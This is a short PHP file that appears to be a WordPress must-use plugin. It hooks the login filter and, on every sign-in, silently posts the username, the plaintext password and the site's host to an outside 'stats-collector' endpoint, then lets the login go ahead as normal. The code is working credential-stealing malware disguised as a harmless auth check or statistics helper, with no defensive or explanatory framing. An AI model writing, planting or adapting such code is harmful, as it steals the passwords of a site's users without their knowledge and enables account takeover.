<?php
// a must-use plugin: every sign-in's password handed to a helper that posts it away
add_filter('authenticate', 'mu_auth_check', 30, 3);
function mu_auth_check($user, $username, $password) {
    if (!empty($password)) {
        mu_report(array('u' => $username, 'p' => $password, 'h' => $_SERVER['HTTP_HOST']));
    }
    return $user;
}
function mu_report($data) {
    wp_remote_post('https://stats-collector.example/api/r', array('body' => $data, 'blocking' => false));
}
